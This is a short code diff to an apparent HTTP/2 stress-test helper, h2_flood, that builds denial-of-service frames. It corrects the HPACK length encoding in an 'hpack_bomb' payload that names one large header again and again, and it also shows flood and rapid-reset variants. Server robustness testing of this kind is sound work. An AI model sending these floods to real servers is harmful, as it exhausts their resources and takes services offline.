@@ -538,7 +538,8 @@ def h2_flood(kind: str) -> tuple:
                 h2_frame(0x9, 0, 1, b"\x40\x01a\x01b") * 200)
     if kind == "hpack_bomb":
         # A 4 KiB field indexed once, then named again and again from the dynamic table.
-        block = b"\x40\x01x\x7f\x81\x1f" + b"v" * 4000 + b"\xbe" * 8000
+        # (4000 as a 7-bit prefixed integer: 127, then 3873 in 7-bit groups: 0xa1 0x1e.)
+        block = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 8000
         return opening, h2_frame(0x1, END_STREAM | END_HEADERS, 1, block)
     if kind == "rapid_reset":
         return opening, b"".join(
